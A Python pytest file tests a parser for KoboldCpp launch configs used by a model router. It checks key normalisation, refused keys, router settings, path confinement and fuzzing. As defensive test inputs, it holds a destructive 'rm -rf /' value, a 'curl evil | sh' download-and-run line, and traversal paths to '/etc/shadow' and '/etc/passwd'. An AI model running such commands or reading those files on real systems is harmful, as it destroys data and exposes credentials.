"""parse_kcpps: one test per rule, the shipped examples, and fuzzing (only KcppsError escapes)."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from router.config import KcppsError, ModelConfig, parse_kcpps
from router.config.kcpps_router_keys import KNOWN_KEYS
from router.domain import BackendMode, Lane

BASE = Path("/srv/kcpps")
EXAMPLES = Path(__file__).resolve().parents[2] / "configs" / "kcpps"


def parse(
    obj: dict[str, Any] | bytes,
    name: str = "m.kcpps",
    mode: BackendMode = BackendMode.LLAMA_SDCPP,
    roots: tuple[Path, ...] = (),
    base: Path = BASE,
) -> ModelConfig:
    data = obj if isinstance(obj, bytes) else json.dumps(obj).encode()
    return parse_kcpps(base / name, data, mode, roots)


def refused(obj: dict[str, Any] | bytes, *words: str, **kw: Any) -> str:
    with pytest.raises(KcppsError) as info:
        parse(obj, **kw)
    message = str(info.value)
    for word in words:
        assert word in message
    assert str(BASE) not in message
    return message


# ---- JSON shape -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data, word",
    [
        (b"{not json", "invalid JSON"),
        (b"\xff\xfe{}", "UTF-8"),
        (b"[1, 2]", "object"),
        (b'"text"', "object"),
        (b"[" * 100_000 + b"]" * 100_000, "nesting"),
        (b'{"a": ' + b"[" * 40 + b"]" * 40 + b"}", "nesting"),
        (b'{"model_param": "a.gguf", "model_param": "b.gguf"}', "duplicate"),
        (b" " * (1 << 20) + b"{}", "larger"),
    ],
)
def test_not_a_json_object(data: bytes, word: str) -> None:
    refused(data, word)


def test_bom_is_accepted() -> None:
    assert parse(b'\xef\xbb\xbf{"model_param": "a.gguf"}').id == "m"


def test_flag_spelling_keys_are_normalized_and_cannot_dodge_refusal() -> None:
    config = parse({"model_param": "a.gguf", "--sdclipl": "clip.safetensors", "--host": "0"})
    assert "sdclip1" in config.components
    assert "host" in config.ignored_keys
    refused({"model_param": "a.gguf", "--onready": "rm -rf /"}, "onready")
    refused({"model_param": "a.gguf", "host": "", "--host": ""}, "twice")


# ---- legacy spellings -------------------------------------------------------------------


@pytest.mark.parametrize(
    "model, expected",
    [(["", "first.gguf", "second.gguf"], "first.gguf"), ("solo.gguf", "solo.gguf")],
)
def test_legacy_model_key(model: Any, expected: str) -> None:
    config = parse({"model": model})
    assert config.components["model_param"] == BASE / expected
    assert "model" not in config.raw and config.raw["model_param"] == expected


def test_model_param_wins_over_legacy_model() -> None:
    config = parse({"model": ["old.gguf"], "model_param": "new.gguf"})
    assert config.components["model_param"] == BASE / "new.gguf"


def test_usecublas_and_blasbatchsize() -> None:
    raw = parse(
        {"model_param": "a.gguf", "usecublas": ["lowvram", "0", "rowsplit"], "blasbatchsize": 256}
    ).raw
    assert raw["usecuda"] == ["lowvram", "0", "rowsplit"]
    assert raw["lowvram"] is True and raw["splitmode"] == "row"
    assert raw["batchsize"] == 256
    assert "usecublas" not in raw and "blasbatchsize" not in raw
    kept = parse({"model_param": "a.gguf", "usecublas": ["0"], "usecuda": ["1"]}).raw
    assert kept["usecuda"] == ["1"]


def test_sdconfig_and_hordeconfig() -> None:
    config = parse(
        {
            "sdconfig": ["dream.safetensors", "clamped", "6", "quant"],
            "hordeconfig": ["mymodel", 256, 4096, "key", "worker"],
        }
    )
    assert config.components["sdmodel"] == BASE / "dream.safetensors"
    assert config.raw["sdclamped"] == 512 and config.raw["sdthreads"] == 6
    assert config.raw["sdquant"] == 2
    assert config.raw["hordemodelname"] == "mymodel" and config.raw["hordemaxctx"] == 4096
    assert config.raw["hordeworkername"] == "worker"
    refused({"sdconfig": ["x.safetensors", "c", "many"]}, "sdconfig")
    refused({"model_param": "a.gguf", "hordeconfig": "x"}, "hordeconfig")


def test_clip_aliases() -> None:
    config = parse({"sdmodel": "f.safetensors", "sdclipl": "l.sft", "sdclipg": "g.sft"})
    assert config.components["sdclip1"] == BASE / "l.sft"
    assert config.components["sdclip2"] == BASE / "g.sft"


# ---- refused and dropped keys -----------------------------------------------------------


@pytest.mark.parametrize(
    "key, value",
    [
        ("onready", "curl evil | sh"),
        ("mcpfile", "mcp.json"),
        ("kobold_binary", "/tmp/x"),
        ("binary_path", "/tmp/x"),
        ("llama_bin", "/tmp/x"),
        ("executable", "/tmp/x"),
        ("command", ["sh", "-c", "x"]),
        ("startcmd", "x"),
    ],
)
def test_refused_keys(key: str, value: Any) -> None:
    refused({"model_param": "a.gguf", key: value}, key, "not allowed")


def test_empty_refused_keys_are_dropped() -> None:
    config = parse({"model_param": "a.gguf", "onready": "", "server_binary": None})
    assert config.ignored_keys == ("onready", "server_binary")
    assert "onready" not in config.raw


def test_router_owned_keys_dropped_unknown_kept() -> None:
    config = parse(
        {
            "model_param": "a.gguf",
            "host": "",
            "port": 5001,
            "port_param": 5001,
            "remotetunnel": True,
            "password": "secret",
            "contextsize": 4096,
            "somefuturekey": {"x": 1},
        }
    )
    assert config.ignored_keys == ("host", "password", "port", "port_param", "remotetunnel")
    assert config.raw["contextsize"] == 4096 and config.raw["somefuturekey"] == {"x": 1}
    assert not {"host", "port", "port_param", "password"} & config.raw.keys()


# ---- router-owned settings --------------------------------------------------------------


def test_router_settings_parsed() -> None:
    config = parse(
        {
            "model_param": "a.gguf",
            "backend_mode": "vllm",
            "router_unload_policy": ["image"],
            "jinja_kwargs": '{"enable_thinking": true}',
            "router_jinja_kwargs_precedence": "client",
            "serve_args": ["--max-model-len", "4096"],
            "run_embed_separate": True,
        },
        mode=BackendMode.KOBOLD,
    )
    assert config.backend_mode is BackendMode.VLLM
    assert config.unload_triggers == {"image"}
    assert config.jinja_kwargs == {"enable_thinking": True}
    assert config.jinja_precedence == "client"
    assert config.serve_args == ("--max-model-len", "4096")
    assert config.run_embed_separate is True


def test_router_settings_defaults() -> None:
    config = parse({"model_param": "a.gguf"}, mode=BackendMode.KOBOLD)
    assert config.backend_mode is BackendMode.KOBOLD
    assert config.unload_triggers == frozenset()
    assert (config.jinja_kwargs, config.jinja_precedence) == ({}, "config")
    assert (config.serve_args, config.run_embed_separate) == ((), False)
    assert config.config_sha256 == hashlib.sha256(b'{"model_param": "a.gguf"}').hexdigest()


@pytest.mark.parametrize(
    "key, value",
    [
        ("backend_mode", "ollama"),
        ("backend_mode", 3),
        ("router_unload_policy", "some"),
        ("router_unload_policy", ["none", "text"]),  # none is absorbing
        ("jinja_kwargs", "[1]"),
        ("jinja_kwargs", "{bad"),
        ("jinja_kwargs", 5),
        ("router_jinja_kwargs_precedence", "server"),
        ("serve_args", "--foo"),
        ("serve_args", ["--x", 1]),
        ("run_embed_separate", "yes"),
    ],
)
def test_router_settings_bad_values_name_the_key(key: str, value: Any) -> None:
    refused({"model_param": "a.gguf", key: value}, key)


# Issue 36: the `router_` prefix is the router's; a typo used to reach KoboldCpp silently.
@pytest.mark.parametrize("key", ["router_kv_persit", "--router-kv-persit", "router_future"])
def test_an_unknown_router_key_is_refused_naming_it_and_the_known_ones(key: str) -> None:
    message = refused({"model_param": "a.gguf", key: "off"}, "not a router key")
    assert message.startswith(key.lstrip("-").replace("-", "_"))
    assert "router_kv_persist" in message and "router_aliases" in message


def test_every_known_router_key_is_accepted() -> None:
    config = parse(
        {
            "model_param": "a.gguf",
            "backend_mode": "vllm",
            "router_aliases": ["x"],
            "router_jinja_kwargs_precedence": "client",
            "router_kv_persist": "off",
            "router_pin": True,
            "router_rpc_nodes": "auto",
            "router_sleep": 1,
            "router_unload_policy": "text",
            "router_vision": True,
            "routerish": 1,  # not the prefix: KoboldCpp's to judge
        }
    )
    assert config.raw["router_vision"] is True and config.raw["routerish"] == 1


def test_docs_table_lists_exactly_the_known_router_keys() -> None:
    text = (EXAMPLES.parents[1] / "docs" / "kcpps.md").read_text(encoding="utf-8")
    table = text.split("## Router-owned keys", 1)[1].split("\n## ", 1)[0]
    rows = {line.split("`")[1] for line in table.splitlines() if line.startswith("| `router_")}
    assert rows == KNOWN_KEYS  # a key the router reads is documented; a documented one is read


@pytest.mark.parametrize("arg", ["--host", "--port=9", "--trust-remote-code", "--api-key"])
def test_serve_args_refuse_router_owned_flags(arg: str) -> None:
    refused({"model_param": "a", "backend_mode": "vllm", "serve_args": [arg, "x"]}, "serve_args")


# ---- components and lanes ---------------------------------------------------------------


def test_components_resolve_against_config_folder() -> None:
    config = parse(
        {"model_param": "sub/../m.gguf", "mmproj": "/abs/proj.gguf", "sdlora": ["a.st", "", "b.st"]}
    )
    assert config.components == {
        "model_param": BASE / "m.gguf",
        "mmproj": Path("/abs/proj.gguf"),
        "sdlora[0]": BASE / "a.st",
        "sdlora[1]": BASE / "b.st",
    }
    assert config.files("sdlora") == (BASE / "a.st", BASE / "b.st")
    assert config.files("mmproj") == (Path("/abs/proj.gguf"),)
    assert config.lanes == {Lane.TEXT}


@pytest.mark.parametrize(
    "obj, lanes",
    [
        ({"model_param": "t.gguf"}, {Lane.TEXT}),
        ({"sdmodel": "i.safetensors"}, {Lane.IMAGE}),
        ({"sddiffusionmodel": "flux.gguf", "sdt5xxl": "t5.gguf"}, {Lane.IMAGE}),
        ({"whispermodel": "w.bin"}, {Lane.VOICE}),
        ({"embeddingsmodel": "e.gguf"}, {Lane.EMBEDDINGS}),
        ({"musicllm": "m.gguf", "musicvae": "v.gguf"}, {Lane.MUSIC}),
        ({"ttsmodel": "tts.gguf", "ttswavtokenizer": "w.gguf"}, {Lane.VOICE}),
        (
            {"model_param": "t.gguf", "sdmodel": "i.st", "whispermodel": "w.bin"},
            {Lane.TEXT, Lane.IMAGE, Lane.VOICE},
        ),
    ],
)
def test_lanes_from_components_in_kobold_mode(obj: dict[str, Any], lanes: set[Lane]) -> None:
    assert parse(obj, mode=BackendMode.KOBOLD).lanes == lanes


def test_tts_under_llama_sdcpp_is_a_warning_not_a_lane() -> None:
    config = parse({"model_param": "t.gguf", "ttsmodel": "tts.gguf"})
    assert config.lanes == {Lane.TEXT}
    assert any("ttsmodel" in w for w in config.warnings)
    assert "ttsmodel" in config.components
    refused({"ttsmodel": "tts.gguf"}, "no servable", "ttsmodel")


def test_music_under_llama_sdcpp_and_image_under_vllm_warn() -> None:
    assert parse({"model_param": "t.gguf", "musicllm": "m.gguf"}).lanes == {Lane.TEXT}
    config = parse({"model_param": "hf/qwen", "sdmodel": "i.st"}, mode=BackendMode.VLLM)
    assert config.lanes == {Lane.TEXT} and config.image_id is None and config.warnings


@pytest.mark.parametrize(
    "obj",
    [{}, {"contextsize": 4096}, {"model_param": ""}, {"model": []}, {"mmproj": "p.gguf"}],
)
def test_no_servable_component(obj: dict[str, Any]) -> None:
    refused(obj, "no servable")


@pytest.mark.parametrize(
    "value, word",
    [
        (5, "file path"),
        (True, "file path"),
        ({"a": 1}, "file path"),
        ("https://hf.co/x.gguf", "URL"),
        ("a\x00b", "usable"),
        ("\ud800.gguf", "usable"),
        ("other.kcpps", "launch config"),
    ],
)
def test_bad_component_values(value: Any, word: str) -> None:
    refused({"model_param": value}, "model_param", word)


def test_missing_model_files_are_not_a_parse_error(tmp_path: Path) -> None:
    config = parse({"model_param": "nowhere.gguf"}, base=tmp_path, roots=(tmp_path,))
    assert config.components["model_param"] == tmp_path / "nowhere.gguf"


# ---- file roots -------------------------------------------------------------------------


def test_file_roots_confine_components(tmp_path: Path) -> None:
    models = tmp_path / "models"
    models.mkdir()
    ok = parse({"model_param": "models/a.gguf"}, base=tmp_path, roots=(models,))
    assert ok.components["model_param"] == models / "a.gguf"
    refused({"model_param": "/etc/shadow"}, "outside", base=tmp_path, roots=(models,))
    refused({"model_param": "models/../../x.gguf"}, "outside", base=tmp_path, roots=(models,))
    refused({"model_param": "x.gguf"}, "outside", base=tmp_path, roots=(models,))
    refused(
        {"model_param": "models/a.gguf", "sdvae": "../vae.st"},
        "sdvae",
        base=tmp_path,
        roots=(models,),
    )


def test_file_roots_follow_symlinks(tmp_path: Path) -> None:
    models = tmp_path / "models"
    models.mkdir()
    os.symlink("/etc", models / "escape")
    refused({"model_param": "models/escape/passwd"}, "outside", base=tmp_path, roots=(models,))
    # A symlinked root is fine when the file is really inside it.
    link = tmp_path / "link"
    os.symlink(models, link)
    assert parse({"model_param": "models/a.gguf"}, base=tmp_path, roots=(link,)).lanes


# ---- IDs --------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["-x.kcpps", "has space.kcpps", ".hidden.kcpps", "a/b?.kcpps"])
def test_bad_file_names(name: str) -> None:
    refused({"model_param": "a.gguf"}, "file name", name=name)


def test_long_name_limit() -> None:
    assert parse({"model_param": "a"}, name="a" * 128 + ".kcpps").id == "a" * 128
    refused({"model_param": "a"}, "file name", name="a" * 129 + ".kcpps")


@pytest.mark.parametrize(
    "obj, image_id",
    [
        ({"sdmodel": "/m/juggernautXL.safetensors"}, "sdxl-juggernautXL"),
        ({"sdmodel": "C:\\models\\juggernautXL.safetensors"}, "sdxl-juggernautXL"),
        ({"sddiffusionmodel": "flux1-dev Q4.gguf"}, "sdxl-flux1-dev-Q4"),
        ({"sdmodel": "v1.5.ckpt", "sddiffusionmodel": "x.gguf"}, "sdxl-v1.5"),
    ],
)
def test_image_id(obj: dict[str, Any], image_id: str) -> None:
    config = parse(obj, name="sdxl.kcpps")
    assert config.id == "sdxl" and config.image_id == image_id


def test_text_only_has_no_image_id() -> None:
    assert parse({"model_param": "a.gguf"}, name="hermes-8k.kcpps").image_id is None


# ---- shipped examples -------------------------------------------------------------------


def test_example_configs_parse() -> None:
    found = {}
    for path in sorted(EXAMPLES.glob("*.kcpps")):
        config = parse_kcpps(path, path.read_bytes(), BackendMode.LLAMA_SDCPP, (EXAMPLES,))
        assert not config.warnings, path.name
        found[config.id] = config
    assert found["hermes-8k"].lanes == {Lane.TEXT}
    assert found["sdxl"].image_id == "sdxl-juggernautXL"
    assert found["nomic-embed"].lanes == {Lane.EMBEDDINGS}
    assert found["whisper-base"].lanes == {Lane.VOICE}
    combined = found["companion"]
    assert combined.backend_mode is BackendMode.KOBOLD
    assert combined.lanes == {Lane.TEXT, Lane.IMAGE, Lane.VOICE}


# ---- fuzzing ----------------------------------------------------------------------------

COMPONENT_KEYS = ["model_param", "model", "sdmodel", "sdconfig", "sdlora", "ttsmodel", "mmproj"]
ROUTER_KEYS = ["backend_mode", "router_unload_policy", "jinja_kwargs", "serve_args"]
KEYS = st.sampled_from(
    COMPONENT_KEYS + ROUTER_KEYS + ["onready", "host", "usecublas", "hordeconfig", "x_cmd"]
) | st.text(max_size=12)
LEAVES = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(max_size=20)
    | st.sampled_from(["a.gguf", "../x.gguf", "/etc/passwd", "vllm", "kobold", "all", "quant"])
)
JSON = st.recursive(
    LEAVES, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(KEYS, inner, max_size=4)
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=200))
def test_fuzz_bytes(data: bytes) -> None:
    try:
        parse(data)
    except KcppsError:
        pass


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.dictionaries(KEYS, JSON, max_size=8), st.sampled_from(list(BackendMode)))
def test_fuzz_objects(obj: dict[str, Any], mode: BackendMode) -> None:
    try:
        config = parse(obj, mode=mode, roots=(BASE,))
    except KcppsError as exc:
        assert str(BASE) not in str(exc)
        return
    assert config.lanes
    assert all(p.is_relative_to(BASE) for p in config.components.values())
    assert "onready" not in config.raw and "host" not in config.raw
